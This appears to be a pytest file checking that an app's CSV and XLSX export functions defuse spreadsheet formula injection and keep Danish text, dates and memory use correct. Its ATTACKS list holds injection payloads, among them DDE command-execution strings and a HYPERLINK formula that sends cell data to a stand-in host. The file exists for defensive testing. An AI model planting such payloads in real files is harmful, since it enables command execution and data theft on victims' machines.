"""Every cell stays what somebody wrote, whatever a spreadsheet makes of its beginning."""

import csv
import tracemalloc
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime
from io import BytesIO
from tempfile import TemporaryFile
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from participation.foundation.errors import RuleViolation
from participation.records.rules import tables
from participation.records.rules.tables import Row, Table, guarded, write_csv, write_xlsx

HEAD = Table("Idéer", ["Navn", "Tal", "Dag"], [10, 10, 10])
ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://ond.example/?x="&A1,"Se her")',
    "=cmd|' /C calc'!A0",
    "+1-800",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    '"=1+1',
    "%0A-3+3",
    "a;=1+1",
    "a\n=1+1",
    'a";=1+1;"',
    "_x003D_1+1",
    "{=1+1}",
    "http://ond.example/",
    "<b>=1</b>",
    "0012",
    "1e5",
]
HARMLESS = ["Flere træer", "Æbler, ørred og å", "3-årige", "a=b", "100 %", "", "mail@example.org"]


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(content.decode("utf-8-sig").splitlines(keepends=True), delimiter=";"))


def written(write: Callable[..., int], rows: list[Row]) -> bytes:
    file = BytesIO()
    assert write(file, HEAD, rows) == len(rows)
    return file.getvalue()


def sheet_of(content: bytes) -> Any:
    return load_workbook(BytesIO(content)).active


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_holds_no_formula(attack: str) -> None:
    _, row = read_csv(written(write_csv, [[attack, 1, None]]))
    assert row[0].removeprefix("'") in {attack, attack.removeprefix("'")}
    assert not row[0].lstrip(' \u00a0\ufeff\u200b"').startswith(tables.FORMULA_STARTS)


@pytest.mark.parametrize("attack", ATTACKS)
def test_xlsx_holds_a_text_and_nothing_more(attack: str) -> None:
    cell = sheet_of(written(write_xlsx, [[attack, 1, None]]))["A2"]
    assert (cell.data_type, cell.hyperlink) == ("s", None)
    assert unescape(cell.value) == attack


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text: str) -> None:
    assert guarded(text) == text


def test_xlsx_has_types_and_a_head_that_stays() -> None:
    sheet = sheet_of(written(write_xlsx, [["Træ på øen", 7, date(2026, 3, 5)]]))
    assert [cell.value for cell in sheet[1]] == ["Navn", "Tal", "Dag"]
    assert [cell.value for cell in sheet[2]] == ["Træ på øen", 7, datetime(2026, 3, 5)]  # noqa: DTZ001
    assert (sheet.freeze_panes, sheet.title, sheet["C2"].is_date) == ("A2", "Idéer", True)


def test_csv_is_as_a_danish_spreadsheet_reads_it() -> None:
    moment = datetime(2026, 3, 5, 23, 30, tzinfo=UTC)
    content = written(write_csv, [["Træ på øen", 7, date(2026, 3, 5)], [None, -7, moment]])
    assert content.decode("utf-8-sig") == (
        "Navn;Tal;Dag\r\nTræ på øen;7;2026-03-05\r\n;-7;2026-03-06 00:30\r\n"
    )


def test_a_spreadsheet_that_is_full_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "MOST_XLSX_ROWS", 2)
    with pytest.raises(RuleViolation):
        write_xlsx(BytesIO(), HEAD, [["a", 1, None]] * 3)


@pytest.mark.parametrize("write", [write_csv, write_xlsx])
def test_memory_does_not_grow_with_the_rows(write: Callable[..., int]) -> None:
    def rows(count: int) -> Iterator[Row]:
        return (["Ø" * 200, number, date(2026, 3, 5)] for number in range(count))

    peaks = []
    for count in (1_000, 20_000):
        tracemalloc.start()
        with TemporaryFile() as file:
            assert write(file, HEAD, rows(count)) == count
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert peaks[1] < peaks[0] + 2_000_000
